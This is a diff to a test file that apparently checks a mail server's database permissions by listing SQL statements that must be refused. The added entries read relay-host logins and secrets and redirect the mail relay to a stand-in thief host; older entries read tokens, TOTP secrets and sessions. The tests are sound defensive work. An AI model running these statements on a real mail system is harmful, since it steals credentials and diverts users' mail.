@@ -33,6 +33,8 @@ def refused(mail_server, connection, statement):
         "SELECT username FROM mailbox ORDER BY password",
         "SELECT token FROM mailbox",
         "SELECT totp_secret FROM mailbox",
+        "SELECT login FROM relay_host",
+        "UPDATE relay_host SET next_hop = '[smtp.thief.example]:587'",
         "SELECT username FROM admin",
         "SELECT * FROM log",
         "SELECT * FROM django_session",
@@ -63,6 +65,7 @@ def test_postfix_finds_addresses_and_nothing_else(mail_server, statement):
         "DELETE FROM alias",
         "DELETE FROM last_login",
         "SELECT * FROM usage_day",
+        "SELECT secret FROM relay_host",
         "CREATE TABLE mine (x int)",
     ],
 )
